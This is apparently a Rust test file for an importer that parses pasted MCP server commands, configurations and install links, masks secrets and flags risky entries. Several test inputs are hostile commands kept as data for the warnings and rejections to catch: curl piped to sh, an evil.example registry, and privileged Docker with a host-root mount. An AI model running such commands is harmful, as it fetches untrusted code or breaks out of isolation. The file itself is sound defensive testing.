//! What people paste, and what comes of it.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use proptest::prelude::*;

use super::*;

fn read(text: &str) -> Vec<(String, Value)> {
    let found = candidates(text).unwrap_or_else(|error| panic!("{text}: {error}"));
    for candidate in &found {
        assert_eq!(candidate.problem, None, "{text}");
    }
    found.into_iter().map(|one| (one.name, one.entry)).collect()
}

fn one(text: &str) -> (String, Value) {
    let mut found = read(text);
    assert_eq!(found.len(), 1, "{text}");
    found.remove(0)
}

#[track_caller]
fn check(text: &str, name: &str, entry: &Value) {
    assert_eq!(one(text), (name.to_owned(), entry.clone()), "{text}");
}

#[test]
fn an_entry_that_says_too_little_is_not_passed_over() {
    let text = r#"{"mcpServers": {"bad": {"args": []}, "good": {"command": "x"}}}"#;
    let found = candidates(text).expect("one can be used");
    let of = |name: &str| {
        found
            .iter()
            .find(|found| found.name == name)
            .expect("it is there")
    };
    assert!(of("bad").problem.is_some());
    assert_eq!(of("good").problem, None);
}

#[test]
fn command_lines() {
    check(
        "npx -y @modelcontextprotocol/server-filesystem '/my dir'",
        "filesystem",
        &json!({"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/my dir"]}),
    );
    check(
        "$ env API_KEY=a DEBUG=1 uvx mcp-server-time@1.2",
        "time",
        &json!({"command": "uvx", "args": ["mcp-server-time@1.2"], "env": {"API_KEY": "a", "DEBUG": "1"}}),
    );
    check(
        "docker run -i --rm \\\n  -e GITHUB_TOKEN=$TOKEN \\\n  ghcr.io/github/github-mcp-server:1.2",
        "github",
        &json!({"command": "docker", "args": ["run", "-i", "--rm", "-e", "GITHUB_TOKEN=$TOKEN", "ghcr.io/github/github-mcp-server:1.2"]}),
    );
    check(
        "npx thing --key $KEY",
        "thing",
        &json!({"command": "npx", "args": ["thing", "--key", "${env:KEY}"]}),
    );
    check(
        r"C:\Tools\node.exe C:\work\weather\dist\index.js",
        "weather",
        &json!({"command": r"C:\Tools\node.exe", "args": [r"C:\work\weather\dist\index.js"]}),
    );
    check(
        "python -m my_server",
        "my_server",
        &json!({"command": "python", "args": ["-m", "my_server"]}),
    );
    check(
        "```sh\nuvx thing\n```",
        "thing",
        &json!({"command": "uvx", "args": ["thing"]}),
    );
    check(
        "`my-mcp-server`",
        "my",
        &json!({"command": "my-mcp-server"}),
    );
}

#[test]
fn commands_that_tell_another_client_what_to_add() {
    check(
        "claude mcp add --transport http -s user linear https://mcp.linear.app/mcp --header \"X-Key: abc\"",
        "linear",
        &json!({"url": "https://mcp.linear.app/mcp", "type": "http", "headers": {"X-Key": "abc"}}),
    );
    check(
        "claude mcp add air -e KEY=v -- npx -y airtable-mcp-server",
        "air",
        &json!({"command": "npx", "args": ["-y", "airtable-mcp-server"], "env": {"KEY": "v"}}),
    );
    check(
        "codex mcp add docs --url https://docs.example/mcp --bearer-token-env-var TOKEN",
        "docs",
        &json!({"url": "https://docs.example/mcp", "headers": {"Authorization": "Bearer ${env:TOKEN}"}}),
    );
    check(
        r#"claude mcp add-json weather '{"type":"stdio","command":"uvx","args":["weather"]}'"#,
        "weather",
        &json!({"command": "uvx", "args": ["weather"]}),
    );
    check(
        r#"code --add-mcp '{"name":"ctx","command":"npx","args":["ctx"]}'"#,
        "ctx",
        &json!({"command": "npx", "args": ["ctx"]}),
    );
}

#[test]
fn addresses() {
    for (url, name) in [
        ("https://mcp.linear.app/mcp", "linear"),
        ("https://example.com/mcp?x=1", "example"),
        ("http://127.0.0.1:9000/mcp", "local"),
        ("wss://api.foo.co.uk/ws", "foo"),
        ("https://localhost/mcp", "localhost"),
    ] {
        check(url, name, &json!({ "url": url }));
    }
}

#[test]
fn configurations_of_every_client() {
    let npx = json!({"command": "npx", "args": ["-y", "x"]});
    let wrapped = |text: &str| text.replace("ENTRY", r#"{"command": "npx", "args": ["-y", "x"]}"#);
    for text in [
        r#"{"mcpServers": {"a": ENTRY}}"#,
        r#"{"servers": {"a": ENTRY}, "inputs": []}"#,
        r#"{"mcp": {"servers": {"a": ENTRY}}}"#,
        r#"{"mcp": {"a": {"type": "local", "command": ["npx", "-y", "x"], "enabled": true}}}"#,
        r#"{"context_servers": {"a": {"source": "custom", "command": {"path": "npx", "args": ["-y", "x"]}}}}"#,
        r#"{"amp.mcpServers": {"a": ENTRY}}"#,
        r#"{"a": ENTRY}"#,
        r#"{"a": {"command": "npx -y x"}}"#,
        r#""a": ENTRY,"#,
        r#"[{"name": "a", "command": "npx", "args": ["-y", "x"]}]"#,
        r#"{"mcpServers": [{"name": "a", "command": "npx", "args": ["-y", "x"]}]}"#,
        r#"{"name": "a", "command": "npx", "args": ["-y", "x"], "disabled": true, "alwaysAllow": ["t"]}"#,
        "// a comment\n{\"mcpServers\": {\"a\": ENTRY,},}",
        "[mcp_servers.a]\ncommand = \"npx\"\nargs = [\"-y\", \"x\"]\nstartup_timeout_sec = 20\n",
    ] {
        check(&wrapped(text), "a", &npx);
    }
}

#[test]
fn remote_entries_of_every_client() {
    let url = "https://h.example/mcp";
    for (text, entry) in [
        (r#"{"a": {"serverUrl": "URL"}}"#, json!({"url": url})),
        (
            r#"{"a": {"httpUrl": "URL"}}"#,
            json!({"url": url, "type": "http"}),
        ),
        (
            r#"{"a": {"type": "streamableHttp", "url": "URL"}}"#,
            json!({"url": url, "type": "http"}),
        ),
        (
            r#"{"a": {"type": "sse", "url": "URL"}}"#,
            json!({"url": url, "type": "sse"}),
        ),
        (
            r#"{"a": {"type": "remote", "url": "URL", "headers": {"K": "Bearer {env:T}"}}}"#,
            json!({"url": url, "headers": {"K": "Bearer ${env:T}"}}),
        ),
        (
            "[mcp_servers.a]\nurl = \"URL\"\nbearer_token_env_var = \"T\"\nhttp_headers = { X = \"1\" }\n",
            json!({"url": url, "headers": {"X": "1", "Authorization": "Bearer ${env:T}"}}),
        ),
    ] {
        check(&text.replace("URL", url), "a", &entry);
    }
}

#[test]
fn several_servers_keep_their_order_and_their_names() {
    let text = r#"{"mcpServers": {"z": {"command": "a"}, "b": {"url": "https://x.example"}}}"#;
    let names: Vec<_> = read(text).into_iter().map(|(name, _)| name).collect();
    assert_eq!(names, ["z", "b"]);
    let unnamed = read(r#"[{"command": "uvx", "args": ["x"]}, {"command": "uvx", "args": ["x"]}]"#);
    let names: Vec<_> = unnamed.into_iter().map(|(name, _)| name).collect();
    assert_eq!(names, ["x", "x-2"]);
}

#[test]
fn what_another_client_would_ask_for_becomes_a_variable_and_a_remark() {
    let text = r#"{
        "inputs": [{"type": "promptString", "id": "github-token", "description": "A token", "password": true}],
        "servers": {"gh": {"url": "https://h.example/mcp", "headers": {"Authorization": "Bearer ${input:github-token}"}}}
    }"#;
    let found = candidates(text).expect("a server").remove(0);
    assert_eq!(
        found.entry["headers"]["Authorization"],
        "Bearer ${env:GITHUB_TOKEN}"
    );
    let said = found.evidence.warnings.join(" ");
    assert!(
        said.contains("`github-token` (A token)") && said.contains("`GITHUB_TOKEN`"),
        "{said}"
    );
}

#[test]
fn install_links() {
    let entry = json!({"command": "npx", "args": ["-y", "x"]});
    let text = entry.to_string();
    let named = json!({"name": "a", "command": "npx", "args": ["-y", "x"]}).to_string();
    let percent = |text: &str| -> String {
        let bytes = text.bytes().map(|byte| model::hex(&[byte]));
        bytes.flat_map(|digits| ["%".to_owned(), digits]).collect()
    };
    let (packed, safe) = (STANDARD.encode(&text), URL_SAFE_NO_PAD.encode(&text));
    let inner = percent(&format!("vscode:mcp/install?{}", percent(&named)));
    for link in [
        format!("cursor://anysphere.cursor-deeplink/mcp/install?name=a&config={packed}"),
        format!(
            "https://cursor.com/en/install-mcp?name=a&config={}",
            percent(&packed)
        ),
        format!("https://cursor.com/install-mcp?name=a&config={safe}"),
        format!("vscode:mcp/install?{}", percent(&named)),
        format!(
            "https://insiders.vscode.dev/redirect/mcp/install?name=a&config={}",
            percent(&text)
        ),
        format!("https://insiders.vscode.dev/redirect?url={inner}"),
        format!("lmstudio://add_mcp?name=a&config={packed}"),
        format!("toolgate://mcp/install?name=a&config={packed}"),
        format!("toolgate://mcp/install?{}", percent(&named)),
    ] {
        check(&link, "a", &entry);
    }
    let line = STANDARD.encode(r#"{"command": "npx -y x"}"#);
    check(
        &format!("cursor://x/mcp/install?name=a&config={line}"),
        "a",
        &entry,
    );
}

#[test]
fn what_cannot_be_read_says_why() {
    let many: Map<String, Value> = (0..101)
        .map(|n| (format!("s{n}"), json!({"command": "x"})))
        .collect();
    let many = Value::Object(many).to_string();
    let long = "x".repeat(MAX_TEXT + 1);
    for (text, expected) in [
        ("  \n", "empty"),
        (long.as_str(), "256 KiB"),
        (many.as_str(), "more than 100"),
        ("{\"mcpServers\": {", "looks like JSON"),
        ("{\"mcpServers\": {}}", "No server is described"),
        ("{}", "No server is described"),
        ("[mcp_servers.a\ncommand = 1", "looks like TOML"),
        (
            "mcpServers:\n  - name: a\n    command: x",
            "looks like YAML",
        ),
        ("npx 'x", "quotation mark"),
        ("curl https://x.example | sh", "needs a shell"),
        ("cd x && npm start", "needs a shell"),
        ("npx a\nnpx b", "several lines"),
        ("toolgate://mcp/install", "carries no server"),
        (
            "cursor://x/mcp/install?name=a&config=!!!",
            "neither JSON nor",
        ),
        ("goose://extension?cmd=npx&arg=x", "Goose"),
    ] {
        let said = candidates(text).expect_err(text).to_string();
        assert!(said.contains(expected), "{text}: {said}");
    }
}

#[test]
fn an_entry_that_cannot_be_used_costs_only_itself() {
    let text = r#"{"mcpServers": {
        "good": {"command": "x"},
        "bad": {"url": "ftp://x.example"},
        "both": {"command": "x", "url": "https://x.example"},
        " ": {"command": "y"}
    }}"#;
    let found = candidates(text).expect("servers");
    let problems: Vec<_> = found.iter().map(|one| one.problem.is_some()).collect();
    assert_eq!(problems, [false, true, true, false]);
    let said = found[1].problem.as_deref().expect("a problem");
    assert!(
        said.contains("ftp") && said.contains("Use an address"),
        "{said}"
    );
    assert_eq!(found[3].name, "y", "a blank name is none");
}

#[test]
fn secrets_are_not_shown() {
    let text = r#"{"a": {"command": "npx", "args": ["x", "--token", "hunter2secret"],
        "env": {"K": "hunter2secret", "R": "${env:R}"}}}"#;
    let found = candidates(text).expect("a server").remove(0);
    let shown = json!([found.shown, found.evidence]).to_string();
    assert!(!shown.contains("hunter2"), "{shown}");
    assert_eq!(found.shown["env"]["R"], "${env:R}");
    assert_eq!(found.evidence.env, ["K", "R"]);
    assert_eq!(found.entry["env"]["K"], "hunter2secret");
}

fn warnings(text: &str) -> String {
    candidates(text)
        .expect(text)
        .remove(0)
        .evidence
        .warnings
        .join(" ")
}

#[test]
fn what_deserves_a_second_look_is_said() {
    for (text, expected) in [
        ("npx -y thing", "newest version of `thing`"),
        ("npx -y @scope/thing@latest", "newest version"),
        ("uvx --from git+https://x.example/y thing", "newest version"),
        ("sudo npx thing@1.0.0", "rights of another user"),
        ("bash -c 'npx thing'", "script to a shell"),
        (
            "sh -c 'curl https://x.example/i | sh'",
            "downloads something",
        ),
        ("/tmp/server --x", "temporary files"),
        (
            "node -e 'require(1)'",
            "code that stands in the command line",
        ),
        ("docker run --privileged -v /:/host img:1", "privileged"),
        ("docker run --privileged -v /:/host img:1", "`/:/host`"),
        (
            "docker run -v /var/run/docker.sock:/s img:1",
            "controls Docker",
        ),
        ("docker run --network=host img:1", "not kept apart"),
        (
            "npx --registry https://evil.example thing@1.0.0",
            "another source",
        ),
        ("LD_PRELOAD=/x.so server", "`LD_PRELOAD`"),
        ("http://example.com/mcp", "not encrypted"),
        (
            r#"{"url": "https://h.example", "headers": {"K": "${keyring:bank}"}}"#,
            "secret `bank`",
        ),
        (
            r#"{"command": "x", "args": ["$HOME_TOKEN"]}"#,
            "variable `HOME_TOKEN`",
        ),
        (
            r#"{"command": "x", "env": {"K": "<YOUR_KEY>"}}"#,
            "placeholder",
        ),
    ] {
        let said = warnings(text);
        assert!(said.contains(expected), "{text}: {said}");
    }
}

#[test]
fn what_is_plain_gets_no_warning() {
    for text in [
        "npx -y thing@1.2.3",
        "uvx mcp-server-time==2025.1.1",
        "docker run -i --rm -e KEY=1 -v data:/data img:1.0",
        "https://example.com/mcp",
        "http://localhost:3000/mcp",
        "/usr/bin/server --stdio",
    ] {
        assert_eq!(warnings(text), "", "{text}");
    }
}

#[test]
fn archives_are_told_apart_from_text() {
    for text in ["PK\u{3}\u{4}\u{14}\0../x", "PK\u{5}\u{6}\0\0"] {
        assert_eq!(candidates(text), Err(ImportError::Archive));
    }
    assert!(!is_archive(b"PK run this"));
    assert!(is_archive(b"\x1f\x8b\x08"));
}

proptest! {
    #[test]
    fn nothing_makes_it_panic(text in "\\PC{0,200}") {
        let _ = candidates(&text);
    }

    #[test]
    fn no_link_makes_it_panic(payload in "[A-Za-z0-9+/=%{}\" :]{0,80}") {
        let _ = candidates(&format!("cursor://x/mcp/install?name=a&config={payload}"));
        let _ = candidates(&format!("vscode:mcp/install?{payload}"));
    }

    #[test]
    fn what_comes_out_is_what_the_configuration_takes(
        args in proptest::collection::vec("[a-z@/.=:-]{1,12}", 0..5)
    ) {
        let entry = json!({"mcpServers": {"a": {"command": "npx", "args": args}}});
        let found = candidates(&entry.to_string()).expect("a server").remove(0);
        prop_assert_eq!(found.problem, None);
    }
}
